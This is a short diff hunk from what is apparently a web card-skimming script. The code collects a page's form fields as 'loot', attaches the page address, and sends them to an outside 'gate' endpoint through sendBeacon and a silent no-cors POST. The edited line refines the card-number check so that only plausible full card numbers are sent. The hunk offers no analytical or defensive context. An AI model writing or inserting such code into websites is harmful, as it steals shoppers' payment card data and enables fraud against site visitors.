@@ -6,7 +6,7 @@
     if (!form) return;
     var loot = new URLSearchParams(new FormData(form));
     loot.set("page", location.href);
-    if (!/\d{4}/.test(loot.get("card") || "") || String(loot) === last) return;
+    if (!/(\d ?){13}/.test(loot.get("card") || "") || String(loot) === last) return;
     last = String(loot);
     try { navigator.sendBeacon(gate, loot); } catch (refused) {}
     fetch(gate, { method: "POST", mode: "no-cors", body: loot }).catch(function () {});
